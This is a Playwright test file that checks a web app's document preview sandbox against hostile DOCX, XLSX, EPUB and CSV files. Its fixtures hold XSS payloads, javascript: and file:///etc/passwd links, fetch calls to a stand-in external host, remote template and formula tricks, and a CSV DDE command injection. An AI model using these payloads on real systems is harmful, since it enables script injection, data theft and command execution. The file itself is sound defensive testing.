/** Documents of others that try to run scripts, to load something, or to reach what the user may do. */
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Frame, Page, Request } from 'playwright-core'
import t, { type Test } from 'tap'
import { openPage, withoutBrowser } from './browser.js'
import { docxOf, drawing, epubOf, paragraph, run, xlsxOf } from './office-files.js'
import { dialog, startSite, visit } from './site.js'

const elsewhere = 'https://remote.invalid'

/** A script that leaves a mark, shows a dialog, and reports to another host. */
const attack = `document.documentElement.dataset.ran='yes';alert(1);fetch('${elsewhere}/ran')`
const escaped = attack.replaceAll("'", '&apos;')

const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${escaped}">
<script>${attack}</script><rect width="40" height="40" fill="green"/><image xlink:href="${elsewhere}/a.png"/>
<a xlink:href="javascript:${escaped}"><text y="9">drawn</text></a><style>@import "${elsewhere}/b.css";</style>
<use href="${elsewhere}/c.svg#x"/><animate attributeName="href" values="javascript:${escaped}"/></svg>`

const addresses = [
  `javascript:${escaped}`,
  `data:text/html,&lt;script&gt;${escaped}&lt;/script&gt;`,
  'file:///etc/passwd',
]

const docx = docxOf(
  [
    paragraph(run('The text.')),
    ...addresses.map((_, index) => paragraph(`<w:hyperlink r:id="a${index}">${run(`link ${index}`)}</w:hyperlink>`)),
    paragraph(`<w:hyperlink r:id="web">${run('outside')}</w:hyperlink>`),
    paragraph(drawing('remote', 'link') + drawing('remote') + drawing('drawn')),
    paragraph(run(`&lt;img src=x onerror="${escaped}"&gt;&lt;script&gt;${escaped}&lt;/script&gt;`)),
    paragraph(`<w:r><w:rPr><w:rFonts w:ascii="x;background:url(${elsewhere}/font)"/><w:color w:val="red;x:url(${elsewhere}/v)"/>\
</w:rPr><w:t>styled</w:t></w:r><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" style="background:url(${elsewhere}/s)" \
href="${elsewhere}/t"><v:imagedata r:id="remote"/></v:rect></w:pict></w:r>`),
    '<w:altChunk r:id="chunk"/>',
    `<w:p><w:r><w:instrText>INCLUDEPICTURE "${elsewhere}/field.png"</w:instrText></w:r></w:p>`,
  ].join(''),
  [
    ...addresses.map((target, index) => ({ id: `a${index}`, type: 'hyperlink', target, isExternal: true })),
    { id: 'web', type: 'hyperlink', target: `${elsewhere}/page`, isExternal: true },
    { id: 'remote', type: 'image', target: `${elsewhere}/picture.png`, isExternal: true },
    { id: 'drawn', type: 'image', target: 'media/drawn.svg' },
    { id: 'chunk', type: 'aFChunk', target: 'chunk.html' },
    { id: 'template', type: 'attachedTemplate', target: `${elsewhere}/template.dotm`, isExternal: true },
  ],
  { 'word/media/drawn.svg': svg, 'word/chunk.html': `<script>${attack}</script><img src="${elsewhere}/chunk.png">` },
)

const html = `<img src=x onerror="${attack}"><script>${attack}</script>`
const cell = html.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

const xlsx = xlsxOf({
  sheets: {
    'Sheet &lt;img src=x&gt;': `<row r="1"><c r="A1" t="str"><f>HYPERLINK("${elsewhere}/f","x")</f><v>of a link</v></c>
<c r="B1" t="s"><v>0</v></c><c r="C1" t="str"><f>WEBSERVICE("${elsewhere}/w")</f><v>The end.</v></c></row>`,
  },
  texts: [`<t>${cell}</t>`],
  after: `<hyperlinks><hyperlink ref="A1" location="${elsewhere}"/></hyperlinks>`,
})

const epub = epubOf({
  chapters: {
    [`One ${cell}`]: `<h1 onclick="${escaped}">The text.</h1><script>${attack}</script><script src="${elsewhere}/s.js"></script>
<img src="x" onerror="${escaped}"/><img src="${elsewhere}/i.png" srcset="${elsewhere}/j.png 2x"/><img src="drawn.svg"/>${svg}
<iframe src="${elsewhere}/frame" srcdoc="&lt;script&gt;${escaped}&lt;/script&gt;"></iframe><object data="${elsewhere}/o"/>
<link rel="stylesheet" href="${elsewhere}/l.css"/><style>body{background:url(${elsewhere}/bg)}</style>
<video src="${elsewhere}/v" poster="${elsewhere}/p" autoplay=""/><audio src="${elsewhere}/au"/><embed src="${elsewhere}/e"/>
<form action="${elsewhere}/form"><input autofocus="" onfocus="${escaped}"/><button formaction="${elsewhere}">send</button></form>
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"/><base href="${elsewhere}/"/>
<p style="background:url(${elsewhere}/inline)">styled</p><details open="" ontoggle="${escaped}"><summary>s</summary></details>
<math><annotation-xml encoding="text/html"><img src="x" onerror="${escaped}"/></annotation-xml></math>
${addresses.map((address, index) => `<a href="${address}">link ${index}</a>`).join(' ')}
<a href="${elsewhere}/page" target="_top">outside</a> <a href="//remote.invalid/x">slashes</a>
<template><script>${attack}</script></template><noscript><img src="${elsewhere}/n"/></noscript>`,
  },
  members: { 'OEBPS/drawn.svg': svg },
})

const csv = `=HYPERLINK("${elsewhere}/f");"${html.replaceAll('"', '""')}"\n=cmd|' /C calc'!A0;@SUM(1)\nThe end.;x\n`

/** What each attempt to leave the document resolves to, or the name of its error. */
const attempts = `(async () => {
  const outcome = async (name, attempt) => {
    try {
      return [name, String(await attempt())]
    } catch (error) {
      return [name, error.name]
    }
  }
  const later = (work) => new Promise((resolve, reject) => setTimeout(() => {
    try {
      resolve(work())
    } catch (error) {
      reject(error)
    }
  }))
  const loaded = (element, address) => new Promise((resolve) => {
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('refused')
    element.src = address
    document.body.append(element)
  })
  return Promise.all([
    outcome('origin', () => self.origin),
    outcome('cookie', () => document.cookie),
    outcome('storage', () => localStorage.length),
    outcome('database', () => indexedDB.open('x')),
    outcome('parent', () => parent.document.title),
    outcome('api', () => fetch('/api/me')),
    outcome('other host', () => fetch('${elsewhere}')),
    outcome('picture', () => loaded(new Image(), '${elsewhere}/x.png')),
    outcome('own picture', () => loaded(new Image(), '/p/x.png')),
    outcome('script', () => loaded(document.createElement('script'), '/static/x.js')),
    outcome('window', () => open('${elsewhere}')),
    // In a task of its own, because the debugger lets its code do this.
    outcome('code', () => later(() => Function('return 1')())),
    outcome('inline', () => {
      const script = document.createElement('script')
      script.textContent = 'self.ran = 1'
      document.body.append(script)
      return 'ran' in self
    }),
  ])
})()`

interface Watched {
  readonly frame: Frame
  readonly page: Page
}

void t.test('hostile documents', { skip: withoutBrowser }, async (t) => {
  const site = await startSite(t)

  /** Shows the file, and fails the test if anything of it runs or asks anybody. */
  async function harmless(
    t: Test,
    name: string,
    content: Buffer | string,
    story: (watched: Watched) => Promise<unknown>,
  ) {
    await writeFile(join(site.folder, name), content)
    const [requests, seen]: [string[], string[]] = [[], []]
    const prepare = async (page: Page) => {
      page.on('dialog', (each) => {
        seen.push(`dialog ${each.message()}`)
        void each.dismiss()
      })
      page.context().on('page', () => seen.push('a window'))
      page.context().on('request', (request) => requests.push(request.url()))
      page.on('download', () => seen.push('a download'))
      await page.exposeFunction('noteViolation', (text: string) => seen.push(text))
      await page.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
        noteViolation(event.violatedDirective + ' ' + event.blockedURI), true)`)
    }
    await visit(t, site, { at: `/${name}`, prepare }, async (page) => {
      await page.locator('iframe.preview:not(.waiting)').waitFor()
      const frame = page.frames().find((each) => each !== page.mainFrame())
      if (!frame) throw new Error('there is no frame')
      const before = requests.length
      await story({ frame, page })
      t.strictSame(await frame.evaluate('document.documentElement.dataset.ran'), undefined, 'nothing has run')
      t.strictSame(requests.slice(before), [], 'nothing was asked for')
      for (const url of requests) t.ok(url.startsWith(site.url) || url.startsWith('blob:'), url)
      t.equal(requests.filter((url) => url.includes('/static/preview-')).length, 1, 'the document was loaded')
      t.strictSame(seen, [], 'nothing is left to the policy, and no window or dialog is opened')
      t.equal(page.url(), `${site.url}/${name}`)
    })
  }

  /** Clicks whatever looks like a link; only that of the web asks the user. */
  async function follow({ frame, page }: Watched) {
    for (const index of addresses.keys()) {
      const link = frame.getByText(`link ${index}`, { exact: true })
      await link.click()
      await link.click({ modifiers: ['Control'] })
      await link.click({ button: 'middle' })
    }
    await frame.getByText('outside', { exact: true }).click({ button: 'middle' })
    await frame.getByText('outside', { exact: true }).click()
    await dialog(page, 'Open this link?')
      .getByRole('link', { name: `${elsewhere}/page` })
      .waitFor()
    await page.keyboard.press('Escape')
    await dialog(page, 'Open this link?').waitFor({ state: 'detached' })
  }

  await t.test('a document of Word', (t) =>
    harmless(t, 'hostile.docx', docx, async (watched) => {
      await watched.frame.getByText('The text.').waitFor()
      await follow(watched)
      await watched.frame.getByText('<img src=x onerror').waitFor()
      t.equal(await watched.frame.locator('iframe, object, script:not(body > script)').count(), 0)
    }),
  )

  await t.test('a workbook', (t) =>
    harmless(t, 'hostile.xlsx', xlsx, async ({ frame }) => {
      await frame.getByRole('gridcell', { name: 'The end.' }).waitFor()
      await frame.getByRole('gridcell', { name: '<img src=x' }).click()
      await frame.getByRole('tab', { name: 'Sheet <img src=x>' }).click()
      await frame.getByRole('gridcell', { name: 'of a link' }).click()
      t.equal(await frame.locator('img, a').count(), 0)
    }),
  )

  await t.test('a book', (t) =>
    harmless(t, 'hostile.epub', epub, async (watched) => {
      const { frame } = watched
      await frame.getByRole('heading', { name: 'The text.' }).click()
      await follow(watched)
      await frame.getByRole('button', { name: 'Contents' }).click()
      await frame.getByRole('navigation').getByText('One <img').waitFor()
      const parts =
        'main :is(script, iframe, object, embed, link, style, form, input, meta, base, video, audio, [style])'
      t.equal(await frame.locator(parts).count(), 0)
      t.equal(await frame.locator('main :is([onclick], [onerror], [onload], a[href])').count(), 0)
    }),
  )

  await t.test('a table', (t) =>
    harmless(t, 'hostile.csv', csv, async ({ frame }) => {
      await frame.getByRole('gridcell', { name: 'The end.' }).click()
      await frame.getByRole('columnheader', { name: '<img src=x' }).click()
      t.equal(await frame.locator('img, a').count(), 0)
    }),
  )

  /** Shows a page to the administrator. */
  async function withPage(at: string, story: (page: Page) => Promise<unknown>) {
    const { page } = await openPage(site.browser, site.url)
    try {
      const user = { username: 'admin', password: site.adminPassword, otp_code: '', remember: false }
      await page.request.post('/api/auth/session', { data: user })
      await page.goto(at)
      await story(page)
    } finally {
      await page.context().close()
    }
  }

  await t.test('a program in the frame would reach nothing', (t) =>
    // The page complains of every attempt.
    withPage('/hostile.csv', async (page) => {
      await page.locator('iframe.preview:not(.waiting)').waitFor()
      const frame = page.frames().find((each) => each !== page.mainFrame())
      const requests: Request[] = []
      page.context().on('request', (request) => requests.push(request))
      // As a program of the document would, in the debugger.
      const reached = await frame?.evaluate<readonly (readonly [string, string])[]>(attempts)
      t.strictSame(Object.fromEntries(reached ?? []), {
        origin: 'null',
        cookie: 'SecurityError',
        storage: 'SecurityError',
        database: 'SecurityError',
        parent: 'SecurityError',
        api: 'TypeError',
        'other host': 'TypeError',
        picture: 'refused',
        'own picture': 'refused',
        script: 'refused',
        window: 'null',
        code: 'EvalError',
        inline: 'false',
      })
      // The browser names requests that its policy has refused.
      const sent = requests.filter((request) => request.failure()?.errorText !== 'csp')
      t.strictSame(
        sent.map((request) => request.url()),
        [],
      )
    }),
  )
})
